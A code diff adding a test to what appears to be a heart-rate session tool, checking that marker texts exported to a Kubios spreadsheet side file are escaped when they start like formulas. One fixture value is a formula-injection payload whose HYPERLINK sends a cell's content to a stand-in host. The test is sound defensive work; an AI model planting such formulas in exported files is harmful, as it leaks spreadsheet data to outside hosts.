@@ -853,6 +853,28 @@ def test_kubios_rr_reads_back_and_markers_side_file(store: SessionStore, tmp_pat
     assert texts["doubt"] == "a b c d"
 
 
+def test_kubios_side_file_shows_a_formula_looking_text_as_text(
+    store: SessionStore, tmp_path: Path
+) -> None:
+    """The markers file is meant for a spreadsheet, and a marker's text can come from any
+    client of the broker: `=HYPERLINK("http://x/?"&A1,"open")` went in verbatim, and a
+    spreadsheet ran it. A text beginning like a formula gets a leading `'`; others are as
+    sent."""
+    sid = store.create_session("dev", T0_MS, "x", {}).id
+    store.add_beats(sid, [BeatRow(i, 0.8 * (i + 1), T0_MS, 800.0) for i in range(40)])
+    texts = ['=HYPERLINK("http://x/?"&A1,"open")', "+1 calmer", "-felt it", "@me", "ok = fine"]
+    store.add_markers(
+        sid, [MarkerRow(1.0 + i, T0_MS, "note", t, MarkerSource.MQTT) for i, t in enumerate(texts)]
+    )
+    store.finish_session(sid, T0_MS + 33_000)
+    side = markers_file(export_kubios(store, sid, tmp_path))
+    with side.open(newline="") as fh:
+        got = [r["text"] for r in csv.DictReader(fh)]
+    assert got == [f"'{t}" for t in texts[:4]] + ["ok = fine"]
+    # The session itself keeps what was sent (the CSV and JSON exports too).
+    assert [m.text for m in store.markers(sid)] == texts
+
+
 def test_kubios_side_file_is_on_the_kubios_axis(store: SessionStore, tmp_path: Path) -> None:
     """Kubios' axis starts at the beginning of the first RR and has no gaps. A baseline from
     session start is at 0 on it (not -0.171 s); a gap takes no room on it
